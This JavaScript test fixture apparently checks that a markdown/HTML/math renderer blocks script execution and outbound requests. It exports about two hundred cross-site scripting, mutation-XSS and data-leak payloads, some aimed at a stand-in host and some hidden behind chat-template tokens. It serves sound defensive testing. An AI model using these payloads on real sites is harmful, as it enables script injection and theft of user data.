// Two hundred ways to make a page run or fetch something. Each calls window.pwned() or asks for /leak at another
// origin; neither may happen, wherever the text stands.
const kRun = 'window.pwned()';
const kLeak = 'http://127.0.0.1:9/leak?d=SECRET';

const handlers = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['iframe', 'onload'], ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'], ['details open', 'ontoggle'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'], ['marquee', 'onstart'], ['div', 'onmouseover'], ['a href=#', 'onclick'],
  ['style', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onload'], ['link rel=stylesheet href=x', 'onerror'],
  ['button popovertarget=x', 'onclick'], ['p style="animation:x"', 'onanimationstart'], ['dialog open', 'onclose'],
  ['form', 'onsubmit'], ['keygen autofocus', 'onfocus'], ['math', 'onload'], ['x contenteditable autofocus', 'onfocus'],
  ['xss tabindex=1', 'onfocus'], ['picture', 'onerror'], ['source src=x', 'onerror'], ['track src=x', 'onerror'],
];
const forms = [
  (tag, event) => `<${tag} ${event}=${kRun}>`,
  (tag, event) => `<${tag.toUpperCase()} ${event.toUpperCase()}="${kRun}">`,
  (tag, event) => `<${tag}/${event}='${kRun}'//`,
];

const schemes = [
  'javascript:window.pwned()', 'JaVaScRiPt:window.pwned()', 'java\tscript:window.pwned()', 'java&#10;script:window.pwned()',
  '&#106;avascript:window.pwned()', 'javascript&colon;window.pwned()', ' javascript:window.pwned()', '\u0001javascript:window.pwned()',
  'data:text/html,<script>window.pwned()</script>', 'data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQoKTwvc2NyaXB0Pg==',
  'vbscript:window.pwned()', 'blob:http://127.0.0.1/x', 'file:///etc/passwd', 'view-source:javascript:window.pwned()',
];
const links = [
  href => `[x](${href})`, href => `[x](<${href}>)`, href => `<${href}>`, href => `![x](${href})`,
  href => `<a href="${href}">x</a>`, href => `[x][r]\n\n[r]: ${href}`,
];

const leaks = [
  `![x](${kLeak})`, `![x][r]\n\n[r]: ${kLeak}`, `<img src="${kLeak}">`, `<img srcset="${kLeak} 1x">`,
  `<picture><source srcset="${kLeak}"><img></picture>`, `<link rel="stylesheet" href="${kLeak}">`,
  `<link rel=preload as=image href="${kLeak}">`, `<link rel=dns-prefetch href="//leak.invalid">`, `<style>@import url(${kLeak});</style>`,
  `<style>*{background:url(${kLeak})}</style>`, `<div style="background:url(${kLeak})">x</div>`, `<meta http-equiv=refresh content="0;url=${kLeak}">`,
  `<iframe src="${kLeak}"></iframe>`, `<iframe srcdoc="<img src=${kLeak}>"></iframe>`, `<object data="${kLeak}"></object>`,
  `<embed src="${kLeak}">`, `<video src="${kLeak}" autoplay></video>`, `<video poster="${kLeak}"></video>`, `<audio src="${kLeak}" autoplay></audio>`,
  `<svg><image href="${kLeak}"/></svg>`, `<svg><use href="${kLeak}#x"/></svg>`, `<svg><feImage href="${kLeak}"/></svg>`,
  `<svg><style>@import url(${kLeak})</style></svg>`, `<input type=image src="${kLeak}">`, `<body background="${kLeak}">`, `<table background="${kLeak}"><tr><td>x</table>`,
  `<base href="http://127.0.0.1:9/">`, `<form action="${kLeak}"><button>x</button></form>`, `<a ping="${kLeak}" href="#">x</a>`,
  `<track src="${kLeak}">`, `<bgsound src="${kLeak}">`, `<script src="${kLeak}"></script>`,
  `$\\href{${kLeak}}{x}$`, `$\\includegraphics{${kLeak}}$`, `$\\url{${kLeak}}$`, `$\\htmlStyle{background:url(${kLeak})}{x}$`,
  `$\\htmlData{x=${kLeak}}{x}$`, `$$\\htmlClass{x}{\\href{javascript:window.pwned()}{y}}$$`, `\\boxed{\\href{javascript:window.pwned()}{y}}`,
];

const odd = [
  `<script>${kRun}</script>`, `<SCRIPT>${kRun}</SCRIPT>`, `<scr<script>ipt>${kRun}</scr</script>ipt>`, `"><script>${kRun}</script>`,
  `'-${kRun}-'`, '</textarea><script>window.pwned()</script>', '</title><script>window.pwned()</script>', '</pre><script>window.pwned()</script>',
  '```html\n<script>window.pwned()</script>\n```', '```"><img src=x onerror=window.pwned()>\nx\n```', '`<img src=x onerror=window.pwned()>`',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.pwned()>">', '<noscript><p title="</noscript><img src=x onerror=window.pwned()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned()>', '<template><script>window.pwned()</script></template>',
  '<xmp><img src=x onerror=window.pwned()></xmp>', '<!--><img src=x onerror=window.pwned()>-->', '<![CDATA[><img src=x onerror=window.pwned()>]]>',
  '<?xml-stylesheet ><img src=x onerror=window.pwned()>', '<a name=body><a id=location><form id=document>', '<img name=getElementById>',
  '[x](https://a"onmouseover="window.pwned())', '[x](https://a "\\" onmouseover=\\"window.pwned()")', '[<img src=x onerror=window.pwned()>](https://a)',
  '![" onerror="window.pwned()](x)', '| <img src=x onerror=window.pwned()> |\n|---|\n| <script>window.pwned()</script> |', '# <img src=x onerror=window.pwned()>',
  '- [x] <svg onload=window.pwned()>', '> <svg/onload=window.pwned()>', '$<img src=x onerror=window.pwned()>$', '$$</span><img src=x onerror=window.pwned()>$$',
  '$\\text{<img src=x onerror=window.pwned()>}$', '\\boxed{<script>window.pwned()</script>}', '\u202e<script>window.pwned()</script>', '&lt;img src=x onerror=window.pwned()&gt;',
  '%3Cscript%3Ewindow.pwned()%3C/script%3E', '＜script＞window.pwned()＜/script＞', '{{constructor.constructor("window.pwned()")()}}', '${window.pwned()}',
  '</think><script>window.pwned()</script>', '<｜User｜><img src=x onerror=window.pwned()>', '__proto__', 'constructor', '<p class="dialog composer">x</p>', '<span class="math">\\href{javascript:window.pwned()}{x}</span>',
];

export const payloads = [
  ...handlers.flatMap(([tag, event]) => forms.map(form => form(tag, event))),
  ...schemes.flatMap(href => links.map(link => link(href))),
  ...leaks,
  ...odd,
];
